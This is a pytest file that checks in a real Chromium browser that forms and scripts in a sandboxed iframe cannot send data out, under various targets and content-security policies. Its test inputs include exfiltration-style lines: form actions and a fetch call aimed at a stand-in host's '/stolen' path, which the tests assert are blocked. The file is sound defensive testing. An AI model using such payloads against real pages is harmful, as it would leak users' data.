"""An artifact's form in a real browser: its handlers run, and nothing is sent anywhere."""

from typing import Final

import pytest

from tests.browser.prescribed import LISTENING, PAGE_POLICY, POLICY, SANDBOX, frame
from tests.support.chromium import Browser, Page
from tests.support.site import Site

TELLING: Final = "<script>onsubmit = (event) => parent.postMessage(`submit ${event.defaultPrevented}`, '*')</script>"
PREVENTING: Final = "<script>document.onsubmit = (event) => event.preventDefault()</script>"
FORM: Final = "<form {attributes}><input name=a value=1><button>Send</button></form>"


def opened(browser: Browser, here: Site, code: str, sandbox: str = SANDBOX, policy: str = PAGE_POLICY) -> Page:
    url = here.put("/", LISTENING + frame(code, sandbox=sandbox), Content_Security_Policy=policy)
    page = browser.open(url)
    page.wait("document.querySelector('button') !== null", inside=True)
    return page


@pytest.mark.parametrize("key", [False, True], ids=["click", "enter"])
@pytest.mark.parametrize("handler", ["", PREVENTING], ids=["not-prevented", "prevented"])
@pytest.mark.parametrize(
    "attributes", ["", "action='{url}'", "action='{url}' method=post"], ids=["none", "get", "post"]
)
def test_a_submission_is_heard_and_not_sent(
    browser: Browser, here: Site, elsewhere: Site, attributes: str, handler: str, key: bool
) -> None:
    code = TELLING + handler + FORM.format(attributes=attributes.format(url=elsewhere.url + "/stolen"))
    with opened(browser, here, code) as page:
        page.click("input" if key else "button", inside=True)
        if key:
            page.press_enter(inside=True)
        said = page.wait("said[0]")
        browser.listen(0.3)

    assert said == f"submit {bool(handler)}".lower()
    assert elsewhere.asked == []


def test_without_allow_forms_a_submission_is_not_even_heard(browser: Browser, here: Site) -> None:
    """Why the frame has it: Chromium blocks the form before the event."""
    with opened(browser, here, TELLING + PREVENTING + FORM.format(attributes=""), "allow-scripts") as page:
        page.click("button", inside=True)
        browser.listen(0.5)

        assert page.evaluate("said") == []


def test_a_handled_form_stays_where_it_is(browser: Browser, here: Site, elsewhere: Site) -> None:
    code = PREVENTING + FORM.format(attributes=f"action='{elsewhere.url}'") + "<script>window.kept = 1</script>"
    with opened(browser, here, code) as page:
        page.click("button", inside=True)
        browser.listen(0.3)

        assert page.evaluate("[window.kept, location.href]", inside=True) == [1, "about:srcdoc"]


@pytest.mark.parametrize("target", ["_blank", "_top", "_parent"])
def test_no_target_lets_a_form_out(browser: Browser, here: Site, elsewhere: Site, target: str) -> None:
    code = TELLING + FORM.format(attributes=f"target={target} action='{elsewhere.url}/stolen'")
    tabs = len(browser.targets())
    with opened(browser, here, code) as page:
        page.click("button", inside=True)
        page.wait("said.length")
        browser.listen(0.3)

        assert page.evaluate("location.pathname") == "/"
        assert len(browser.targets()) == tabs + 1
    assert elsewhere.asked == []


def test_a_document_of_its_own_does_the_same(browser: Browser, here: Site, elsewhere: Site) -> None:
    """The other way that the threat model names, for pages whose own policy forbids inline scripts."""
    waiting = (
        "<script>onmessage = (event) => { document.open(); document.write(event.data); document.close(); }</script>"
    )
    here.put("/frame", waiting, Content_Security_Policy=f"sandbox {SANDBOX}; {POLICY}")
    here.put(
        "/script", "const said = []; onmessage = (event) => said.push(event.data);", Content_Type="text/javascript"
    )
    framed = f'<iframe width="800" height="500" sandbox="{SANDBOX}" src="/frame"></iframe>'
    url = here.put(
        "/",
        f'<!doctype html><script src="/script"></script>{framed}',
        Content_Security_Policy=f"script-src 'self'; frame-src {here.url}/frame",
    )
    code = f"<!doctype html>{TELLING}<a href='#x'>x</a>" + FORM.format(attributes=f"action='{elsewhere.url}/stolen'")
    escape = f"<script>fetch('{elsewhere.url}/stolen').catch(() => parent.postMessage('no', '*'))</script>"
    with browser.open(url) as page:
        page.wait("onmessage !== null", inside=True)
        page.evaluate(f"frames[0].postMessage({code + escape!r}, '*')")
        page.wait("said.includes('no')")
        assert page.evaluate("document.querySelector('a').click(); location.hash", inside=True) == "#x"
        page.click("button", inside=True)
        page.wait("said.includes('submit false')")
        browser.listen(0.3)

    assert elsewhere.asked == []


def test_a_page_that_forbids_inline_scripts_forbids_those_of_a_srcdoc(browser: Browser, here: Site) -> None:
    url = here.put("/", frame("<script>window.ran = 1</script>"), Content_Security_Policy="script-src 'self'")

    with browser.open(url) as page:
        assert page.wait("document.readyState === 'complete'", inside=True)
        assert page.evaluate("window.ran === undefined", inside=True)
